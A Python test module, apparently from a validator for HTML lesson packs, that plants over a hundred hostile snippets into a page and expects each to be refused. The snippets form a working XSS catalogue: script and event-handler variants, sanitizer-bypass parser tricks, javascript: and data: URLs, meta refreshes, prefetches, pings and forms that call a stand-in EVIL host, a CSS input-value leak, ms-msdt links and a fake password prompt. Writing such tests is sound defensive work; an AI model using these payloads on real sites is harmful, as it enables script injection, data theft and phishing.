"""Pages inside a pack that act or call elsewhere."""

# fmt: off

from __future__ import annotations

import re
from typing import Any

from tests.packs.attacks.drawings_that_act import EVIL, svg
from tests.packs.attacks.drawings_that_ask import b64_of
from tests.packs.attacks.drawings_that_cost import use_bomb
from tests.packs.attacks.jpegs import jpeg_with
from tests.packs.attacks.packed import Pack
from tests.packs.attacks.pngs import exif_gps, png_bomb
from tests.packs.attacks.register import Made, Maker, recipe


def in_pages(name: str, what: str, expected: str, make: Maker, must_not: str = "", sound: bool =
    True) -> None:
    recipe(name, "pages", what, expected, make, must_not, sound)


def csp_line(t: Any) -> Any:
    found = re.search(r'<meta http-equiv="?Content-Security-Policy"?[^>]*>\n?', t)
    assert found
    return found[0]


def page(name: str, what: str, snippet: Any, expected: str = "refuse", at: Any = "end", which: Any =
    "data/pages/lesson-1.html", must_not: str = "", nocsp: Any = False) -> Any:
    """The first lesson's page with a snippet at a place: about the policy, the head or the body."""
    def make(p: Pack) -> Made:
        t = p.text(which)
        s = snippet() if callable(snippet) else snippet
        c = csp_line(t)
        if at == "before-csp":
            t = t.replace(c, s + "\n" + c, 1)
        elif at == "for-csp":
            t = t.replace(c, s + "\n", 1)
        elif at == "after-csp":
            t = t.replace(c, c + s + "\n", 1)
        elif at == "head":
            t = t.replace("</head>", s + "\n</head>", 1)
        elif at == "body":
            t = re.sub(r"(<body[^>]*>)", lambda m: m[1] + s, t, count=1)
        elif at == "text":
            t = t.replace("</h1>", s + "</h1>", 1)
        elif at == "after":
            t = t + s
        elif at == "first":
            t = s + t
        else:
            t = t.replace("</main>", s + "</main>", 1)
        if nocsp:
            t = t.replace(c, "")
        return p.put(which, t)
    in_pages(name, what, expected, make, must_not)


_RUN = [("script", "<script>alert(1)</script>"), ("script-src", "<script src=x.js></script>"), (
    "script-slash", "<script/x>alert(1)</script/x>"), ("script-ff",
    "<script\x0c>alert(1)</script\x0c>"), ("script-newline-name", "<script\n\n>alert(1)</script >"),
    ("script-unclosed", "<script>alert(1)//"), ("script-module",
    "<script type=module>alert(1)</script>"), ("script-speculation",
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{EVIL}/"]}}]}}</script>'), (
    "script-importmap", '<script type=importmap>{"imports":{}}</script>'), ("script-json",
    '<script type="application/json">{"a":1}</script>'), ("script-nul-end",
    "<script\0>alert(1)</script>"), ("script-long-s", "<\u017fcript>alert(1)</\u017fcript>"), (
    "handler-slash", "<img/src=x/onerror=alert(1)>"), ("handler-no-space",
    '<img src="x"onerror="alert(1)">'), ("handler-grave", "<img src=`x`onerror=alert(1)>"), (
    "handler-quote-in-name", "<img \"onerror=alert(1) src=x onerror=alert(1)>"), (
    "handler-equals-first", "<img =\" onerror=alert(1) src=x>"), ("handler-duplicate",
    "<p onclick=alert(1) onclick=\"\">x</p>"), ("handler-upper",
    "<P ONPOINTERENTER=alert(1)>x</P>"), ("handler-toggle",
    "<details open ontoggle=alert(1)><summary>x</summary></details>"), ("handler-animation",
    "<p style='animation:x 1s' onanimationstart=alert(1)>x</p>"), ("handler-content-visibility",
    "<div oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>x</di" "v>"), (
    "handler-beforematch", "<p hidden=until-found onbeforematch=alert(1)>x</p>"), ("handler-body",
    "<body onload=alert(1)>"), ("handler-html", "<html onmouseover=alert(1)>"), ("handler-popover",
    "<button popovertarget=x>Go</button><p popover id=x onbeforetoggle=alert(1)>x</p>"), (
    "handler-unknown", "<p onsomethingnew=alert(1)>x</p>"), ("svg-script",
    "<svg><script>alert(1)</script></svg>"), ("svg-script-cdata",
    "<svg><script><![CDATA[alert(1)]]></script></svg>"), ("svg-script-entity",
    "<svg><script>&#97;lert(1)</script></svg>"), ("svg-animate",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text "
    "y=20>x</text></a></svg>"), ("svg-use-data",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"/>#"
    "x'/></svg>"), ("svg-foreign",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObj"
    "ect></svg>"), ("svg-style-breaks", "<svg><style><img src=x onerror=alert(1)></style></svg>"), (
    "svg-desc-html", "<svg><desc><img src=x onerror=alert(1)></desc></svg>"), ("svg-title-html",
    "<svg><title><script>alert(1)</script></title></svg>"), ("svg-p-breaks-out",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\"></svg>"), ("math-mtext",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;\">"), ("math-annotation",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml"
    "></math>"), ("math-href", "<math href='javascript:alert(1)'><mi>x</mi></math>"), (
    "math-action",
    "<math><maction actiontype='statusline#http://x' xlink:href='javascript:alert(1)'>x</"
    "maction></math>"), ("noscript-differs",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"), (
    "comment-bang-close", "<!-- --!><img src=x onerror=alert(1)> -->"), ("comment-short",
    "<!--><img src=x onerror=alert(1)>-->"), ("comment-short-dash",
    "<!---><img src=x onerror=alert(1)>-->"), ("comment-nested",
    "<!-- <!-- --><img src=x onerror=alert(1)> -->"), ("comment-bogus",
    "<!x --><img src=x onerror=alert(1)>"), ("comment-pi", "<?x --><img src=x onerror=alert(1)>?>"),
    ("comment-end-tag", "</ x --><img src=x onerror=alert(1)>"), ("cdata-in-html",
    "<![CDATA[ ><img src=x onerror=alert(1)>]]>"), ("cdata-svg-html",
    "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>"), ("conditional-comment",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"), ("title-in-body",
    "<title><img src=x onerror=alert(1)></title>"), ("textarea",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>"), ("xmp",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>"), ("noembed",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">"), ("iframe-text",
    "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">"), ("plaintext",
    "<plaintext><img src=x onerror=alert(1)>"), ("style-in-attr",
    "<style><p title=\"</style><img src=x onerror=alert(1)>\"></style>"), ("template-shadow",
    "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>"), (
    "template", "<template><script>alert(1)</script></template>"), ("select-svg",
    "<select><svg><style><img src=x onerror=alert(1)></style></svg></select>"), ("table-foster",
    "<table><img src=x onerror=alert(1)><tr><td></table>"), ("form-nested",
    "<form><div></form><form><math><mtext></form><form><mglyph><style></math><img src "
    "onerror=alert(1)>"), ("attr-unquoted-gt", "<p title=a>b onclick=alert(1)>x</p>"), (
    "attr-newline-gt", "<p title=\"a\n>\" onclick=\"alert(1)\">x</p>"), ("tag-open-eof",
    "<img src=x onerror=alert(1)"), ("tag-in-end-tag",
    "</p title=\"><img src=x onerror=alert(1)>\">"), ("frameset",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>"), ("iframe-srcdoc",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>"), ("iframe-js",
    "<iframe src=javascript:alert(1)></iframe>"), ("iframe-web", f"<iframe src={EVIL}/></iframe>"),
    ("iframe-sandbox", f"<iframe sandbox='' src={EVIL}/></iframe>"), ("object",
    f"<object data={EVIL}/></object>"), ("object-html",
    "<object data='data:text/html,<script>alert(1)</script>'></object>"), ("embed",
    f"<embed src={EVIL}/>"), ("applet", "<applet code=x></applet>"), ("fencedframe",
    f"<fencedframe></fencedframe><portal src={EVIL}/></portal>"), ("a-js",
    "<a href=javascript:alert(1)>x</a>"), ("a-js-tab",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>"), ("a-js-c0",
    "<a href='&#1;javascript:alert(1)'>x</a>"), ("a-js-nul",
    "<a href='java\0script:alert(1)'>x</a>"), ("a-data",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>"), ("a-blob",
    "<a href='blob:null/x'>x</a>"), ("a-web", f"<a href={EVIL}/>x</a>"), ("a-web-backslash",
    "<a href='\\\\127.0.0.1\\share'>x</a>"), ("a-web-slash", "<a href='/\\127.0.0.1:9/'>x</a>"), (
    "a-file", "<a href='file:///C:/Windows/System32/calc.exe'>x</a>"), ("a-handler",
    "<a href='ms-msdt:/id PCWDiagnostic'>x</a><a href='search-ms:query=x'>x</a>"), ("a-download",
    "<a download=x.exe href='data:application/octet-stream,MZ'>x</a>"), ("a-ping",
    f"<a href=#at-steps ping={EVIL}/>x</a>"), ("a-target-opener",
    "<a href=lesson-2.html target=_top rel=opener>x</a>"), ("a-parent",
    "<a href=../../../../etc/passwd>x</a>"), ("a-unit-md",
    "<a href=../unit/media/low-tide.svg>x</a>"), ("area",
    "<map name=m><area shape=default href=javascript:alert(1)></map><img usemap=#m " "src=data:,>"),
    ("form", f"<form action={EVIL}/><input name=a><button>Go</button></form>"), ("form-get-self",
    "<form><input name=a autofocus><button>Go</button></form>"), ("button-formaction",
    "<button form=f formaction=javascript:alert(1)>x</button><form id=f></form>"), ("input-image",
    f"<input type=image src={EVIL}/x>"), ("input-file", "<input type=file webkitdirectory>"), (
    "isindex", "<isindex action=javascript:alert(1)>"), ("keygen",
    "<keygen autofocus onfocus=alert(1)>"), ("dialog-command",
    "<button commandfor=d command=show-modal>x</button><dialog id=d>Give your "
    "password</dialog>"), ("login-lookalike",
    "<p>Session over. Name <input> Password <input type=password></p>"),]
for _n, _s in _RUN:
    page("run-" + _n, _s[:70].replace("\n", " ").replace("\0", "NUL"), _s)
_ASK: list[tuple[Any, ...]] = [
    ("refresh", "after-csp", f'<meta http-equiv=refresh content="0;url={EVIL}/">'), (
    "refresh-upper-space", "after-csp", f'<META HTTP-EQUIV=" refresh" content="0;{EVIL}/">'), (
    "refresh-body", "end", f'<meta http-equiv="Refresh" content="0; URL={EVIL}/">'), (
    "refresh-entity", "after-csp", f'<meta http-equiv="&#114;efresh" content="1;url={EVIL}/">'), (
    "refresh-data", "after-csp",
    '<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">'), (
    "refresh-other-page", "after-csp", '<meta http-equiv=refresh content="0;url=../../x.html">'), (
    "refresh-noscript", "after-csp",
    f'<noscript><meta http-equiv=refresh content="0;url={EVIL}/"></noscript>'), (
    "refresh-self-fast", "after-csp", '<meta http-equiv=refresh content="0">'), ("refresh-svg",
    "end", f'<svg><meta http-equiv=refresh content="0;url={EVIL}/"></svg>'), ("set-cookie",
    "after-csp", '<meta http-equiv="Set-Cookie" content="a=b">'), ("base-href", "after-csp",
    f"<base href={EVIL}/>"), ("base-target", "after-csp", "<base target=_blank>"), (
    "link-stylesheet", "after-csp", f"<link rel=stylesheet href={EVIL}/x.css>"), (
    "link-local-stylesheet", "after-csp", "<link rel=stylesheet href=x.css>"), ("link-preconnect",
    "after-csp", f"<link rel=preconnect href={EVIL}>"), ("link-dns", "after-csp",
    "<link rel=dns-prefetch href=//evil.example>"), ("link-prefetch", "after-csp",
    f"<link rel=prefetch href={EVIL}/>"), ("link-prerender", "after-csp",
    f"<link rel=prerender href={EVIL}/>"), ("link-preload", "after-csp",
    f"<link rel=preload as=image href={EVIL}/>"), ("link-preload-imagesrcset", "after-csp",
    f'<link rel=preload as=image imagesrcset="{EVIL}/ 1x">'), ("link-modulepreload", "after-csp",
    "<link rel=modulepreload href=x.js>"), ("link-icon", "after-csp",
    f"<link rel=icon href={EVIL}/i.ico>"), ("link-icon-second", "after-csp",
    '<link rel="shortcut icon" href="//127.0.0.1:9/i.ico">'), ("link-manifest", "after-csp",
    "<link rel=manifest href=manifest.json>"), ("link-apple", "after-csp",
    f"<link rel=apple-touch-icon href={EVIL}/i.png>"), ("link-import", "after-csp",
    "<link rel=import href=x.html>"), ("link-next", "after-csp", f"<link rel=next href={EVIL}/>"), (
    "link-expect", "after-csp", '<link rel=expect href="#never" blocking=render>'), (
    "link-dictionary", "after-csp", f"<link rel=compression-dictionary href={EVIL}/d>"), (
    "link-pingback", "after-csp", f"<link rel=pingback href={EVIL}/>"), ("link-in-body", "end",
    f"<link rel=dns-prefetch href={EVIL}>"), ("link-no-rel-blocking", "after-csp",
    f"<link rel='alternate stylesheet' href={EVIL}/ title=x>"), ("img-web", "end",
    f"<img src={EVIL}/x.png>"), ("img-relative", "end", "<img src=../unit/media/low-tide.svg>"), (
    "img-srcset", "end", f"<img src=data:, srcset='{EVIL}/x 1x'>"), ("img-lazy-report", "end",
    f"<img loading=lazy attributionsrc={EVIL}/ src=data:,>"), ("picture", "end",
    f"<picture><source srcset={EVIL}/x><img src=data:,></picture>"), ("video", "end",
    f"<video poster={EVIL}/x src={EVIL}/v autoplay></video>"), ("audio", "end",
    f"<audio src={EVIL}/a autoplay></audio>"), ("track", "end",
    f"<video><track default src={EVIL}/t></video>"), ("table-background", "end",
    f"<table background={EVIL}/x><td background={EVIL}/y></table>"), ("img-dynsrc", "end",
    f"<img dynsrc={EVIL}/ lowsrc={EVIL}/>"), ("blockquote-cite", "end",
    f"<blockquote cite={EVIL}/>x</blockquote>"), ("img-longdesc", "end",
    f"<img src=data:, longdesc={EVIL}/>"), ("style-attr", "end",
    f"<p style='background:url({EVIL}/)'>x</p>"), ("style-second", "after-csp",
    f"<style>@import '{EVIL}/';</style>"), ("style-attr-leak", "after-csp",
    f"<style>input[value^=a]{{background:url({EVIL}/a)}}</style>"), ("svg-image", "end",
    f"<svg><image href={EVIL}/x></image></svg>"), ("svg-use-web", "end",
    f"<svg><use href={EVIL}/x#a /></svg>"), ("svg-fill-web", "end",
    f"<svg><rect fill='url({EVIL}/x#a)' width=9 height=9 /></svg>"), ("svg-style", "end",
    f"<svg><style>@import '{EVIL}/';</style></svg>"), ("svg-feimage", "end",
    f"<svg><filter id=f><feImage href={EVIL}/x /></filter></svg>"), ("img-data-svg-request", "end",
    lambda:
    '<img src="data:image/svg+xml;base64,'
    f'{b64_of(svg(f"<image href={chr(34)}{EVIL}/x{chr(34)}/>"))}'
    '" alt="x">'), ("img-data-svg-bomb", "end", lambda:
    f'<img src="data:image/svg+xml;base64,{b64_of(svg(use_bomb(10, 9)))}" alt="x">'), (
    "img-data-png-bomb", "end", lambda:
    f'<img src="data:image/png;base64,{b64_of(png_bomb(30000, 30000))}" alt="x">'), ("img-data-gps",
    "end", lambda: f'<img src="data:image/jpeg;base64,{b64_of(jpeg_with(exif_gps()))}" alt="x">'), (
    "img-data-html", "end", '<img src="data:text/html,<script>alert(1)</script>" alt="x">'), (
    "html-manifest", "first", "<html manifest=x.appcache>"), ("meta-referrer", "after-csp",
    "<meta name=referrer content=unsafe-url>"), ("meta-origin-trial", "after-csp",
    "<meta http-equiv=origin-trial content=AAAA>"), ("meta-accept-ch", "after-csp",
    f'<meta http-equiv=Delegate-CH content="sec-ch-ua-model {EVIL}">'), ("meta-monetization",
    "after-csp",
    f"<meta name=monetization content=$127.0.0.1><link rel=monetization href={EVIL}/>"), (
    "meta-x-ua", "after-csp", '<meta http-equiv="X-UA-Compatible" content="IE=5">'), (
    "meta-viewport", "after-csp", '<meta name=viewport content="width=99999,user-scalable=no">'), (
    "meta-theme-manifest", "after-csp",
    '<meta name="msapplication-config" content="//127.0.0.1:9/browserconfig.xml">'),]
for _n, _at, _s in _ASK:
    page("ask-" + _n, (_s if isinstance(_s, str) else _n)[:80], _s, "harmless" if _n in (
        "meta-viewport", "blockquote-cite", "img-longdesc") else "refuse", _at)
